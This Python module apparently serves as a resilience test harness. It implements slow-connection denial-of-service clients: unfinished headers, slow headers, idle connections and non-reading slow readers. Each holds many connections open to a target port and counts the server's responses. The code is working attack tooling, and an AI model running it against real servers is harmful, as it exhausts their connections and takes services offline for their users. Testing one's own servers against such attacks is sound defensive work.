"""Clients that hold connections instead of using them.

Each attack keeps a number of connections to a port in some state, and replaces those that the server closes. It runs
until its task is cancelled, and then returns what it has counted.
"""

import asyncio
import contextlib
import socket
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Final

_PAUSE_S: Final = 0.2
"""Between two attempts of a client."""
_HEADERS: Final = b"GET /api/health/live HTTP/1.1\r\nHost: service\r\nX-Filler: "


@dataclass(slots=True)
class AttackCounts:
    """What an attack has done so far."""

    open: int = 0
    """Connections open now."""
    most_open: int = 0
    opened: int = 0
    failed: int = 0
    """Attempts to connect that failed."""
    closed: int = 0
    """Connections that the server has closed."""
    statuses: Counter[int] = field(default_factory=Counter)
    """Responses by status."""


@dataclass(frozen=True, slots=True)
class Target:
    """Where the attack goes, and the local address that it comes from."""

    host: str
    port: int
    source: str | None = None


_Client = Callable[[asyncio.StreamReader, asyncio.StreamWriter, AttackCounts], Awaitable[None]]
"""Uses one connection until the server closes it."""


async def unfinished_headers(target: Target, connections: int, counts: AttackCounts | None = None) -> AttackCounts:
    """Send the beginning of the headers, and then nothing."""

    async def client(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, counts: AttackCounts) -> None:
        writer.write(_HEADERS)
        await _read_response(reader, counts)

    return await _attack(target, connections, client, counts)


async def slow_headers(
    target: Target, connections: int, counts: AttackCounts | None = None, *, interval_s: float = 1.0
) -> AttackCounts:
    """Send the headers byte by byte."""

    async def client(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, counts: AttackCounts) -> None:
        writer.write(_HEADERS)
        response = asyncio.ensure_future(_read_response(reader, counts))
        try:
            while not response.done():
                writer.write(b"x")
                await asyncio.wait([response], timeout=interval_s)
        finally:
            response.cancel()

    return await _attack(target, connections, client, counts)


async def idle_connections(target: Target, connections: int, counts: AttackCounts | None = None) -> AttackCounts:
    """Send one request, read its response, and keep the connection."""

    async def client(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, counts: AttackCounts) -> None:
        writer.write(b"GET /api/health/live HTTP/1.1\r\nHost: service\r\n\r\n")
        await _read_response(reader, counts)
        while await reader.read(1 << 16):
            pass

    return await _attack(target, connections, client, counts)


async def slow_readers(
    target: Target, connections: int, counts: AttackCounts | None = None, *, path: str = "/", requests: int = 50
) -> AttackCounts:
    """Send requests, and never read their responses."""

    async def client(_: asyncio.StreamReader, writer: asyncio.StreamWriter, __: AttackCounts) -> None:
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(f"GET {path} HTTP/1.1\r\nHost: service\r\n\r\n".encode() * requests)
        connection: socket.socket = writer.get_extra_info("socket")
        while not _is_reset(connection):  # noqa: ASYNC110 - nothing else tells
            await asyncio.sleep(_PAUSE_S)

    return await _attack(target, connections, client, counts, receive_buffer=2048)


async def _attack(
    target: Target,
    connections: int,
    client: _Client,
    counts: AttackCounts | None,
    receive_buffer: int = 0,
) -> AttackCounts:
    result = counts or AttackCounts()
    clients = [
        asyncio.create_task(_repeat(target, client, result, receive_buffer, number)) for number in range(connections)
    ]
    with contextlib.suppress(asyncio.CancelledError):
        await asyncio.gather(*clients)
    for task in clients:
        task.cancel()
    await asyncio.gather(*clients, return_exceptions=True)
    return result


async def _repeat(target: Target, client: _Client, counts: AttackCounts, receive_buffer: int, number: int) -> None:
    await asyncio.sleep(number / 5000)  # the backlog of the server's socket is limited
    while True:
        try:
            reader, writer = await _connect(target, receive_buffer)
        except OSError:
            counts.failed += 1
        else:
            await _use(reader, writer, client, counts)
        await asyncio.sleep(_PAUSE_S)


async def _connect(target: Target, receive_buffer: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    family = socket.AF_INET6 if ":" in target.host else socket.AF_INET
    connection = socket.socket(family)
    try:
        connection.setblocking(False)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        if target.source:
            connection.bind((target.source, 0))
        await asyncio.get_running_loop().sock_connect(connection, (target.host, target.port))
        return await asyncio.open_connection(sock=connection)
    except BaseException:
        connection.close()
        raise


async def _use(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, client: _Client, counts: AttackCounts
) -> None:
    counts.opened += 1
    counts.open += 1
    counts.most_open = max(counts.most_open, counts.open)
    try:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await client(reader, writer, counts)
        counts.closed += 1
    finally:
        counts.open -= 1
        writer.transport.abort()


async def _read_response(reader: asyncio.StreamReader, counts: AttackCounts) -> None:
    """Read the status of a response and what has arrived with it; empty if the server closes the connection."""
    line = await reader.readline()
    if line.startswith(b"HTTP/"):
        counts.statuses[int(line.split()[1])] += 1


def _is_reset(connection: socket.socket) -> bool:
    """Whether the server has closed the connection, which a client that does not read would not notice."""
    state = connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    return state != 1  # not established
